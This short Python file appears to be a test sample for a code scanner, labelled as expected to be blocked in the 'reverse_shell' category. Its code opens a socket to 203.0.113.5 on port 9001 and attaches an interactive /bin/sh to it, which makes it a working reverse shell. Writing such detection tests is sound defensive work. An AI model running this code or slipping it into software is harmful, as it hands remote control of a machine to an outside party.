# expect: BLOCKED category: reverse_shell
# Hands a shell's standard streams to a socket.
import socket
import subprocess

conn = socket.create_connection(("203.0.113.5", 9001))
subprocess.Popen(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno()).wait()
